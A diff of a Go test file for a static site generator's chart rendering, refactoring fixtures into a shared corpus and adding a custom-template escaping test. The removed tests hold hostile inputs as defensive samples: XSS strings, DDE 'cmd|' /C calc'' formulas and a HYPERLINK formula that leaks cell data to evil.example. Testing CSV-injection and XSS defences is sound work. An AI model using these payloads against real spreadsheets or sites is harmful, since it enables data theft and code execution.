@@ -2,36 +2,27 @@ package render
 
 import (
 	"encoding/csv"
+	"flag"
 	"fmt"
-	"math"
 	"regexp"
+	"strconv"
 	"strings"
 	"testing"
-	"unicode/utf8"
 
+	"github.com/scalesite/scalesite/chart"
+	"github.com/scalesite/scalesite/internal/chartcorpus"
 	"github.com/scalesite/scalesite/internal/sitetest"
+	"github.com/scalesite/scalesite/output"
 	"github.com/scalesite/scalesite/site"
 )
 
-// exportSite has a log-x line chart of two series with labels and a gap, a
-// linear scatter whose names are markup, and a chart on the home page.
-var exportSite = map[string]string{
-	"scalesite.yaml":   "title: Lab\n",
-	"content/index.md": "---\ntitle: Lab\n---\n```chart\ntype: scatter\ndata: data/home.csv\nx: a\ny: b\n```\n",
-	"data/home.csv":    "a,b\n1,2\n3,4\n",
-	"content/runs.md": "---\ntitle: Runs\n---\n" +
-		"```chart\ntitle: Loss\ndata: runs.csv\nx: {field: flops, scale: log}\ny: loss\nseries: model\nlabel: note\n```\n\n" +
-		"```chart\ntype: scatter\ntitle: \"<b>Evil</b>\"\ndata: evil.csv\nx: n\ny: v\nseries: name\n```\n",
-	"content/runs.csv": "model,flops,loss,note\n" +
-		"small,1e18,3.5,\n" +
-		"small,1e19,,\n" + // a gap: the line breaks here
-		"small,1e20,2.75,\"best, so far\"\n" +
-		"\"big \"\"one\"\"\",1e19,3.25,\n" +
-		"\"big \"\"one\"\"\",1e21,2.5,last\n",
-	"content/evil.csv": "name,n,v\n" +
-		"\"</script><script>alert(1)</script>\",1,2\n" +
-		"\"<img src=x onerror=alert(2)>\",2,3\n",
-}
+var update = flag.Bool("update", false, "rewrite the golden files in testdata/")
+
+// loadDemo loads the demo site at the root of the repository.
+func loadDemo(t testing.TB) *site.Site { return chartcorpus.LoadDemo(t, "..") }
+
+// firstDiff shows the first differing line of two texts.
+func firstDiff(got, want []byte) string { return chartcorpus.FirstDiff(got, want) }
 
 func renderFiles(t *testing.T, files map[string]string) (*site.Site, map[string]string) {
 	t.Helper()
@@ -63,7 +54,7 @@ func readCSV(t *testing.T, name, text string) [][]string {
 // its page, named after the chart, and holds every point of every series,
 // in the chart's order, with the original values, labels and gaps.
 func TestChartCSVFiles(t *testing.T) {
-	s, files := renderFiles(t, exportSite)
+	s, files := renderFiles(t, chartcorpus.ExportSite)
 	var runs *site.Page
 	for _, p := range s.Pages {
 		if p.Slug == "runs" {
@@ -74,7 +65,7 @@ func TestChartCSVFiles(t *testing.T) {
 		t.Fatal("the test site did not load as meant")
 	}
 	loss := "runs/" + runs.Charts[0].ID + ".csv"
-	if loss != "runs/chart-runs-1.csv" || ChartDataFile("runs", runs.Charts[0]) != loss {
+	if loss != "runs/chart-runs-1.csv" || chart.DataFile("runs", runs.Charts[0]) != loss {
 		t.Errorf("the first chart's CSV is at %s, want runs/chart-runs-1.csv", loss)
 	}
 	want := [][]string{
@@ -119,8 +110,8 @@ func TestChartCSVFullResolution(t *testing.T) {
 		t.Errorf("the CSV has %d rows (last %q), want the header and all 5000 points", len(rows), rows[len(rows)-1])
 	}
 	page := files["long/index.html"]
-	if n := strings.Count(page, "<tr><td>"); n != maxTableRows {
-		t.Errorf("the table shows %d rows, want %d", n, maxTableRows)
+	if n := strings.Count(page, "<tr><td>"); n != chart.MaxTableRows {
+		t.Errorf("the table shows %d rows, want %d", n, chart.MaxTableRows)
 	}
 	for _, w := range []string{
 		"<summary>Data table (200 of 5000 rows)</summary>",
@@ -135,7 +126,7 @@ func TestChartCSVFullResolution(t *testing.T) {
 // TestChartTableAndToolbar checks the data table under each chart (its
 // cells HTML-escaped), the toolbar's links and buttons, and the anchor.
 func TestChartTableAndToolbar(t *testing.T) {
-	_, files := renderFiles(t, exportSite)
+	_, files := renderFiles(t, chartcorpus.ExportSite)
 	page := files["runs/index.html"]
 	for _, w := range []string{
 		// the anchor and the CSV link work without JavaScript
@@ -203,7 +194,7 @@ func TestChartCSVIncremental(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	csvOf := func(out *Output) string {
+	csvOf := func(out *output.Output) string {
 		for _, f := range out.Files {
 			if f.Path == "b/chart-b-1.csv" {
 				return string(f.Data)
@@ -237,146 +228,37 @@ func writeSiteFile(t *testing.T, dir, name, body string) {
 	sitetest.Write(t, dir, map[string]string{name: body})
 }
 
-// BenchmarkChartCSV writes the CSV of a chart of 3 lines × 20,000 points.
-func BenchmarkChartCSV(b *testing.B) {
-	var data strings.Builder
-	data.WriteString("run,step,loss\n")
-	for _, run := range []string{"a", "b", "c"} {
-		for i := 1; i <= 20000; i++ {
-			fmt.Fprintf(&data, "%s,%d,%.6g\n", run, i, 2+10/float64(i))
-		}
-	}
-	s, err := site.Load(sitetest.New(b, map[string]string{
-		"content/long.md":  "---\ntitle: Long\n---\n```chart\ndata: long.csv\nx: {field: step, scale: log}\ny: {field: loss, scale: log}\nseries: run\n```\n",
-		"content/long.csv": data.String(),
-	}), site.Options{})
-	if err != nil {
-		b.Fatal(err)
-	}
-	c := s.Pages[0].Charts[0]
-	b.ReportAllocs()
-	var n int
-	for b.Loop() {
-		n = len(chartCSV(c))
-	}
-	b.SetBytes(int64(n))
-}
-
-// TestAppendCSVField: fields are written as encoding/csv writes them
-// (those a spreadsheet would run are TestAppendCSVFieldFormulas').
-func TestAppendCSVField(t *testing.T) {
-	for _, f := range []string{"", "plain", "a,b", `say "hi"`, " lead", "line\nbreak", "cr\rx", `\.`, "ünï", "<b>", "1=2", "a-b", "e@mail", "-1.5", "+3", "-1e-9", "'quoted"} {
-		var want strings.Builder
-		w := csv.NewWriter(&want)
-		w.Write([]string{f})
-		w.Flush()
-		if got := string(appendCSVField(nil, f)) + "\n"; got != want.String() {
-			t.Errorf("appendCSVField(%q) = %q, encoding/csv writes %q", f, got, want.String())
-		}
-	}
-}
-
-// TestAppendCSVFieldFormulas: a field a spreadsheet would run as a formula
-// is written as text, a single quote in front and quoted (OWASP's advice
-// on CSV injection); numbers are left as they are.
-func TestAppendCSVFieldFormulas(t *testing.T) {
-	for _, tc := range []struct{ in, want string }{
-		{"=1+2", `"'=1+2"`},
-		{`=HYPERLINK("https://evil.example/?d="&A1, "click")`, `"'=HYPERLINK(""https://evil.example/?d=""&A1, ""click"")"`},
-		{"=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`},
-		{"+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`},
-		{"-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`},
-		{"@SUM(1+9)*cmd|' /C calc'!A0", `"'@SUM(1+9)*cmd|' /C calc'!A0"`},
-		{"\tx", "\"'\tx\""},
-		{"\r=1", "\"'\r=1\""},
-		{"\x00=1", "\"'\x00=1\""},
-		{" =1+2", `"' =1+2"`},
-		{"\n@SUM(A1)", "\"'\n@SUM(A1)\""},
-		{"\u200b=1+2", "\"'\u200b=1+2\""},
-		{"＝1+2", `"'＝1+2"`},
-		{"－1+2", `"'－1+2"`},
-		{"-", `"'-"`},
-		{"-inf", `"'-inf"`},
-		{"+0x1p3", `"'+0x1p3"`},
-		{"-1.5", "-1.5"},
-		{"+3", "+3"},
-		{"-1e-9", "-1e-9"},
-		{"-1E+300", "-1E+300"},
-		{"-.5", "-.5"},
-	} {
-		if got := string(appendCSVField(nil, tc.in)); got != tc.want {
-			t.Errorf("appendCSVField(%q) = %s, want %s", tc.in, got, tc.want)
-		}
-	}
-}
-
-// TestChartCSVFormulaCells renders a chart whose column names, panel
-// titles, series names and labels are formulas, and checks that a
-// spreadsheet would read every cell of its CSV file as text: each holds
-// the value with a single quote in front, and the numbers are unchanged.
-func TestChartCSVFormulaCells(t *testing.T) {
+// TestSiteChartTemplate: a site's own layouts/chart.html gets the same
+// fields, and {{.Option}} there encodes the same option as the built-in
+// template writes, escaped for the script element.
+func TestSiteChartTemplate(t *testing.T) {
+	chartMD := "---\ntitle: Mine\n---\n```chart\ntype: scatter\ntitle: " + strconv.Quote(chartcorpus.Hostile) + "\ndata: |\n  name,x,y\n  \"" +
+		strings.ReplaceAll(strings.ReplaceAll(chartcorpus.Hostile, `"`, `""`), "\x01", "") + "\",1,2\n  b,2,3\nx: x\ny: y\nlabel: name\n```\n"
+	mine := `{{define "chart"}}<div class="mine" id="{{.ID}}" data-h="{{.Height}}" title="{{.Title}}" data-csv="{{.CSV}}" data-rows="{{.Rows}}">` +
+		`<script type="application/json" class="scalesite-option" data-chart="{{.ID}}">{{.Option}}</script></div>{{end}}`
 	_, files := renderFiles(t, map[string]string{
-		"scalesite.yaml":   "title: Lab\n",
-		"content/index.md": "---\ntitle: Lab\n---\n",
-		"content/p.md": "---\ntitle: P\n---\n```chart\ndata: f.csv\nx: \"=x\"\ny: \"@y\"\nseries: \"+s\"\nlabel: \"-l\"\n" +
-			"panels:\n  - {title: \"=HYPERLINK(1)\"}\n  - {title: \"-2+3\"}\n```\n",
-		"content/f.csv": `=x,@y,+s,-l` + "\n" +
-			`1,-1.5,"=HYPERLINK(""https://evil.example/"")",+cmd|' /C calc'!A0` + "\n" +
-			`2,-2,-1,-1e-9` + "\n" +
-			`3,4,plain,@SUM(1+9)` + "\n",
+		"scalesite.yaml":                 "title: Lab\ntheme: mine\n",
+		"themes/mine/layouts/chart.html": mine,
+		"content/c.md":                   chartMD,
 	})
-	rows := readCSV(t, "p/chart-p-1.csv", files["p/chart-p-1.csv"])
-	want := [][]string{
-		{"panel", "'+s", "'=x", "'@y", "label"},
-		{"'=HYPERLINK(1)", "'=HYPERLINK(\"https://evil.example/\")", "1", "-1.5", "'+cmd|' /C calc'!A0"},
-		{"'=HYPERLINK(1)", "-1", "2", "-2", "-1e-9"},
-		{"'=HYPERLINK(1)", "plain", "3", "4", "'@SUM(1+9)"},
-		{"'-2+3", "'=HYPERLINK(\"https://evil.example/\")", "1", "-1.5", "'+cmd|' /C calc'!A0"},
-		{"'-2+3", "-1", "2", "-2", "-1e-9"},
-		{"'-2+3", "plain", "3", "4", "'@SUM(1+9)"},
+	_, builtin := renderFiles(t, map[string]string{"scalesite.yaml": "title: Lab\n", "content/c.md": chartMD})
+	option := func(page string) string {
+		_, rest, ok := strings.Cut(page, `class="scalesite-option" data-chart="chart-c-1">`)
+		body, _, ok2 := strings.Cut(rest, "</script>")
+		if !ok || !ok2 {
+			t.Fatalf("no option in\n%s", page)
+		}
+		return body
 	}
-	if fmt.Sprint(rows) != fmt.Sprint(want) {
-		t.Errorf("the CSV file reads\n%q\nwant\n%q\n%s", rows, want, files["p/chart-p-1.csv"])
+	page := files["c/index.html"]
+	if !strings.Contains(page, `<div class="mine" id="chart-c-1" data-h="440"`) || !strings.Contains(page, `data-csv="chart-c-1.csv" data-rows="2"`) {
+		t.Errorf("the site's chart template was not used as written:\n%s", page)
 	}
-	for _, row := range rows {
-		for _, cell := range row {
-			if formulaLike(cell) {
-				t.Errorf("cell %q would run as a formula", cell)
-			}
-		}
+	got, want := option(page), option(builtin["c/index.html"])
+	if got != want {
+		t.Errorf("the site's {{.Option}} differs from the built-in option:\n got %s\nwant %s", got, want)
 	}
-}
-
-// FuzzAppendCSVField checks that any field reads back from the CSV as
-// itself, or as itself with a single quote in front when a spreadsheet
-// would have run it, and that what is read back never runs.
-func FuzzAppendCSVField(f *testing.F) {
-	for _, s := range []string{"", "=1+2", "-1.5", " @x", "\t", "a,\"b\"\n", "＝", "\u200b-x"} {
-		f.Add(s)
-	}
-	f.Fuzz(func(t *testing.T, s string) {
-		if !utf8.ValidString(s) || strings.ContainsRune(s, '\r') {
-			return // encoding/csv reads invalid UTF-8 and \r\n otherwise than they are written
-		}
-		rows, err := csv.NewReader(strings.NewReader("x," + string(appendCSVField(nil, s)) + "\n")).ReadAll()
-		if err != nil || len(rows) != 1 || len(rows[0]) != 2 {
-			t.Fatalf("appendCSVField(%q) does not read back as one field: %v %q", s, err, rows)
-		}
-		got := rows[0][1]
-		if got != s && got != "'"+s {
-			t.Fatalf("appendCSVField(%q) reads back as %q", s, got)
-		}
-		if formulaLike(got) {
-			t.Fatalf("appendCSVField(%q) reads back as %q, which a spreadsheet runs", s, got)
-		}
-	})
-}
-
-// TestAppendCSVNumber: the fast path writes what appendNumber writes.
-func TestAppendCSVNumber(t *testing.T) {
-	for _, v := range []float64{0, math.Copysign(0, -1), 1, -1, 7, 999999, 1e6, -999999, 123456.5, 0.25, 1e18, 3e9, 1e-7, 20000} {
-		if got, want := string(appendCSVNumber(nil, v)), string(appendNumber(nil, v)); got != want {
-			t.Errorf("appendCSVNumber(%g) = %q, appendNumber writes %q", v, got, want)
-		}
+	if strings.ContainsAny(got, "<>&\u2028") || !strings.Contains(got, `\u003c/script\u003e`) {
+		t.Errorf("option not escaped for the script element: %s", got)
 	}
 }
